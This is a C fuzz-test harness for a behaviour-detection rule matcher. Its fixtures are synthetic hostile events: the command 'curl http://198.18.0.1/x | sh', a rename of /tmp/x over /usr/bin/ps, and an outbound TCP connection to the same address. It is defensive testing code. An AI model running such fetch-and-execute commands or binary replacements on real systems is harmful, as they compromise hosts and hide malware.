/* SPDX-License-Identifier: MIT */
/* Any bytes for a rule file give rules or an error; what loads is run over events. */
#include "behavior/matcher.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static const char *arguments[] = {"sh", "-c", "curl http://198.18.0.1/x | sh"};

static const struct event events[] = {
	{.process = "p1", .is_sample = true, .type = EVENT_KIND_EXEC, .phase = PHASE_RUN},
	{.process = "p1",
	 .is_sample = true,
	 .phase = PHASE_RUN,
	 .type = EVENT_KIND_EXEC,
	 .path = "/usr/bin/dash",
	 .arguments = {.data = arguments, .count = 3}},
	{.process = "p1",
	 .is_sample = true,
	 .phase = PHASE_RUN,
	 .type = EVENT_KIND_FILE_RENAME,
	 .path = "/tmp/x",
	 .target = "/usr/bin/ps"},
	{.process = "p1",
	 .is_sample = true,
	 .phase = PHASE_RUN,
	 .type = EVENT_KIND_CONNECT,
	 .protocol = "tcp",
	 .address = "198.18.0.1",
	 .port = 21351},
};

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	const struct analysis_facts facts = {.package_files = span_empty()};
	cleanup_rules struct rules *rules = rules_new();
	cleanup_arena struct arena *arena = arena_new(0);
	struct findings findings;

	cleanup_error struct error *err = rules_add(rules, "input", span_of(data, size));
	cleanup_matcher struct matcher *matcher = matcher_new(rules, &facts);
	for (size_t i = 0; i < ARRAY_SIZE(events); i++)
		matcher_event(matcher, &events[i]);
	matcher_finish(matcher, arena, &findings);
	return 0;
}
